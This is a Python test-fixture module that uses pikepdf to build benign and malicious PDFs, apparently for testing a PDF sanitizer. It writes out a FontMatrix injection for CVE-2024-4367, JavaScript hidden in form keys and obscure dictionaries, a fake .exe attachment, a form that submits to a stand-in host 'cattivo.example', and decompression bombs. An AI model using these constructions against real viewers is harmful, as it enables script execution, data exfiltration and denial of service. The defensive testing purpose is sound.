"""PDFs as honest people send them, and as others would make them, written with pikepdf itself."""

import io
import zlib
from collections.abc import Callable

from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream, String

SCRIPT = "app.alert('Ciao')"


def written(pdf: Pdf, **options) -> bytes:
    target = io.BytesIO()
    pdf.save(target, **options)
    return target.getvalue()


def a_document(pages: int = 1) -> Pdf:
    """So many pages with a word drawn on each."""
    pdf = Pdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(300, 300)).obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 20 Tf 40 200 Td (Pagina %d) Tj ET" % number)
    return pdf


def one_page(word: str = "") -> bytes:
    """One page that says a word; two that say the same are one paper."""
    pdf = a_document()
    if word:
        drawn = f"BT /F1 20 Tf 40 200 Td ({word}) Tj ET"
        pdf.pages[0].obj.Contents = pdf.make_stream(drawn.encode())
    return written(pdf, deterministic_id=True)


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def with_annotation(**fields) -> Callable[[Pdf], None]:
    def add(pdf: Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 30]), **fields)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return add


def with_root(**entries) -> Callable[[Pdf], None]:
    def add(pdf: Pdf) -> None:
        for name, value in entries.items():
            pdf.Root[f"/{name}"] = pdf.make_indirect(value)

    return add


def with_page(**entries) -> Callable[[Pdf], None]:
    def add(pdf: Pdf) -> None:
        for name, value in entries.items():
            pdf.pages[0].obj[f"/{name}"] = value

    return add


def with_file(pdf: Pdf) -> None:
    pdf.attachments["fattura.exe"] = b"MZ" + b"programma" * 9


def with_metadata(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = "Mario Programma"
    with pdf.open_metadata() as about:
        about["dc:creator"] = ["Mario Programma"]


def with_drawn_script(pdf: Pdf) -> None:
    """What a viewer written in JavaScript has run: CVE-2024-4367."""
    font = pdf.pages[0].obj.Resources.Font.F1
    font.FontMatrix = Array([1, 0, 0, 1, 0, String(f"0); {SCRIPT} //")])


def with_deep_script(pdf: Pdf) -> None:
    """In a drawing, within a pattern's resources, under a name that nobody reads."""
    form = Stream(pdf, b"")
    form["/Type"], form["/Subtype"], form["/BBox"] = Name.XObject, Name.Form, Array([0, 0, 9, 9])
    form["/PieceInfo"] = Dictionary(App=Dictionary(Private=script()))
    form["/Qualsiasi"] = Dictionary(Dentro=Array([Dictionary(Poi=script())]))
    form["/AF"] = Array([Dictionary(Type=Name.Filespec, F=String("programma.exe"))])
    pdf.pages[0].obj.Resources.XObject = Dictionary(AA=pdf.make_indirect(form))


def an_action(kind: str, **fields) -> Dictionary:
    return Dictionary({"/Type": Name.Action, "/S": Name(f"/{kind}")} | fields)


def a_form(pdf: Pdf) -> None:
    """A box that was filled in, sent somewhere by a button, with a script at each key."""
    page = pdf.pages[0].obj
    fonts = Dictionary(Font=Dictionary(F1=page.Resources.Font.F1))
    box = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([10, 100, 200, 120]))
    box.FT, box.T, box.V = Name.Tx, String("importo"), String("49,90 euro")
    box.DA, box.P, box.AA = String("/F1 12 Tf 0 g"), page, Dictionary(K=script())
    button = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([10, 10, 60, 30]))
    button.FT, button.T = Name.Btn, String("Invia")
    there = Dictionary({"/FS": Name.URL, "/F": String("https://cattivo.example/programma")})
    button.A = an_action("SubmitForm", **{"/F": there})
    fields = Array([pdf.make_indirect(box), pdf.make_indirect(button)])
    page.Annots = fields
    pdf.Root.AcroForm = Dictionary(Fields=fields, DR=fonts, DA=box.DA, NeedAppearances=True)
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp><script>programma</script></xdp:xdp>")


def inflating(size: int) -> bytes:
    """One page whose drawing weighs `size` bytes when it is unpacked."""
    pdf = a_document()
    packed = zlib.compressobj(9)
    block, again = (
        packed.compress(b" " * 10_000_000) + packed.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )
    stream = Stream(pdf, block + again * (size // 10_000_000))
    stream.Filter = Name.FlateDecode
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    return written(pdf, compress_streams=False)


def packed_in_itself() -> bytes:
    pdf = a_document()
    stream = Stream(pdf, zlib.compress(zlib.compress(b" " * 10_000_000)))
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)
    return written(pdf, stream_decode_level=0, compress_streams=False)


def a_picture_of(side: int) -> bytes:
    pdf = a_document()
    picture = Stream(pdf, b"\0" * 20)
    picture.Type, picture.Subtype, picture.Filter = Name.XObject, Name.Image, Name.JBIG2Decode
    picture.Width = picture.Height = side
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im=pdf.make_indirect(picture))
    return written(pdf)


def locked(*, to_read: str) -> bytes:
    return written(a_document(), encryption=Encryption(owner="padrone", user=to_read))
